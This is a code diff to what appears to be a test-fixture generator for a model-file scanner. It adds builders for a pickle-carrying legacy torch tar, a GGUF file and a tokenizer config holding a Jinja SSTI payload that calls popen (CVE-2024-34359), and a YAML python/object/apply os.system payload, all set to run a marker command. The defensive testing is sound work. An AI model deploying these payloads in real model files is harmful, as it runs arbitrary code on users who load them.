@@ -240,6 +240,22 @@ def polyglot(call: Call) -> bytes:
     return stack_global(*call) + buf.getvalue()
 
 
+def torch_legacy_tar(call: Call) -> bytes:
+    """torch's oldest format: a tar whose members 'sys_info', 'pickle', 'storages', 'tensors'
+    torch.load unpickles."""
+    import tarfile
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        for name, data in {"sys_info": pickle.dumps({"protocol_version": 1000}, protocol=2),
+                           "pickle": stack_global(*call),
+                           "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
+                           "tensors": pickle.dumps(0, protocol=2)}.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
 STRUCTURE: dict[str, tuple[Callable[[Call], bytes], str, str]] = {
     # name: (builder, file name, the loader that runs it: pickle | joblib | numpy | torch)
     "first-opcode": (first_opcode, "model.bin", "pickle"),
@@ -251,6 +267,7 @@ STRUCTURE: dict[str, tuple[Callable[[Call], bytes], str, str]] = {
     "torch-many-members": (torch_many_members, "model.pt", "torch"),
     "torch-bad-crc": (torch_bad_crc, "model.pt", "torch"),
     "pickle-zip-polyglot": (polyglot, "model.keras", "pickle"),
+    "torch-legacy-tar": (torch_legacy_tar, "model.pt", "torch"),
 }
 
 
@@ -315,6 +332,35 @@ def _keras_folder(folder: Path) -> list[Path]:
 
 
 KERAS["keras-unzipped-folder"] = _keras_folder
+
+
+# ---------------------------------------------------------------------------- templates, yaml
+def gguf(template: str) -> bytes:
+    """A GGUF file (header and metadata only) whose chat template is `template`: llama.cpp's
+    Python bindings rendered it with an unsandboxed Jinja environment (CVE-2024-34359)."""
+    def text(value: str) -> bytes:
+        raw = value.encode()
+        return struct.pack("<Q", len(raw)) + raw
+    kvs = [("general.architecture", 8, text("llama")),
+           ("tokenizer.chat_template", 8, text(template)),
+           ("llama.context_length", 4, struct.pack("<I", 4096))]
+    body = b"".join(text(k) + struct.pack("<I", t) + v for k, t, v in kvs)
+    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + body
+
+
+SSTI = ("{{ ''.__class__.__mro__[1].__subclasses__()[140].__init__.__globals__['popen']"
+        "('touch MARK').read() }}")
+BENIGN_TEMPLATE = ("{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}"
+                   "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}")
+YAML_APPLY = "model:\n  layers: 3\n  init: !!python/object/apply:os.system ['touch MARK']\n"
+
+TEMPLATES: dict[str, tuple[str, Callable[[str], bytes]]] = {
+    "gguf-chat-template-ssti": ("model.gguf", lambda cmd: gguf(SSTI.replace("touch MARK", cmd))),
+    "tokenizer-config-chat-template": ("tokenizer_config.json", lambda cmd: json.dumps(
+        {"chat_template": SSTI.replace("touch MARK", cmd)}).encode()),
+    "yaml-python-apply": ("config.yaml", lambda cmd: YAML_APPLY.replace("touch MARK",
+                                                                       cmd).encode()),
+}
 
 
 # ---------------------------------------------------------------------------- folders
@@ -387,6 +433,11 @@ def write_all(folder: Path, marker: Path) -> dict[str, list[Path]]:
         sub = folder / name
         sub.mkdir(exist_ok=True)
         out[name] = make_keras(sub)
+    for name, (file, make_text) in TEMPLATES.items():
+        sub = folder / name
+        sub.mkdir(exist_ok=True)
+        (sub / file).write_bytes(make_text(cmd))
+        out[name] = [sub / file]
     out["hf-snapshot-symlink"] = hf_snapshot(folder / "hf", stack_global(*armed))
     out["venv-folder"] = hidden_folder(folder / "v", stack_global(*armed), "venv")
     out["dvc-folder"] = hidden_folder(folder / "d", stack_global(*armed), ".dvc")
